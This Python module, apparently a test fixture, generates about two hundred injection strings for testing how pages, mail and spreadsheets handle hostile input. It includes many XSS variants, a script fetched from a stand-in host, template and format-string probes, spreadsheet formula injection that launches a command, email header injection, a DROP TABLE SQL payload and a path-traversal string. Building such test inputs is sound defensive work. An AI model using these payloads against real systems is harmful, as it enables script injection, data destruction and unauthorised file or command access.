"""Two hundred texts that try to run something in a page, a mail or a spreadsheet. All are harmless here."""

_CALLS = ("alert(1)", "window.x=1", "fetch('//a.example')", "document.title='x'")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//a.example/x.js></script>{}",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>',
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<object data='javascript:{}'></object>",
    "<template><script>{}</script></template>",
)
_OUT = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    "` onmouseover={} `",
    '" autofocus onfocus="{}" x="',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</option></select><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    'https://a.example/"onclick="{}',
    "https://a.example/?q=<script>{}</script>",
    "\u202e<script>{}</script>",
    "<scr\x00ipt>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
)
_OTHER = (
    "{{7*7}}", "{% include 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ self.__class__ }}", "%(name)s",
    "%s%n",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("//a.example")', "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    "a\r\nBcc: x@a.example", "a\nSubject: y", "a\n\n<html>", "a\r\n\r\n--boundary", "'; DROP TABLE x; --",
    "../../etc/passwd", "\x00", "\ufeff<script>alert(1)</script>",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys([shape.replace("{}", call) for shape in (*_TAGS, *_OUT) for call in _CALLS] + list(_OTHER))
)
